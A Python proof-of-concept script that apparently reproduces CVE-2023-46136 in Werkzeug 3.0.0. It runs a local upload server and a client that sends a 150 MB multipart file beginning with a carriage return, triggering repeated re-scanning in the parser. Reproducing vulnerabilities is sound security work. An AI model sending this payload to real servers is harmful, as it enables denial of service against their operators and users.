"""Werkzeug 3.0.0 (CVE-2023-46136): an uploaded file that begins with CR and has no line end is searched again from its start with every chunk."""

import subprocess
import sys

from werkzeug import Request, Response
from werkzeug.serving import make_server

CLIENT = """
import http.client, sys, time
port = int(sys.argv[1])
def post(content):
    body = (b'--xx\\r\\nContent-Disposition: form-data; name="f"; filename="f"\\r\\n'
            b'Content-Type: application/octet-stream\\r\\n\\r\\n' + content + b'\\r\\n--xx--\\r\\n')
    one = http.client.HTTPConnection("127.0.0.1", port)
    one.request("POST", "/upload", body, {"Content-Type": "multipart/form-data; boundary=xx"})
    one.getresponse().read()
for _ in range(200):
    post(b"small")
    time.sleep(0.1)
print("large", flush=True)
post(b"\\r" + b"x" * 150_000_000)
print("done", flush=True)
"""


@Request.application
def upload(request):
    return Response(str(len(request.files)))


if __name__ == "__main__":
    server = make_server("127.0.0.1", 0, upload, threaded=True)
    subprocess.Popen([sys.executable, "-c", CLIENT, str(server.port)])
    server.serve_forever()
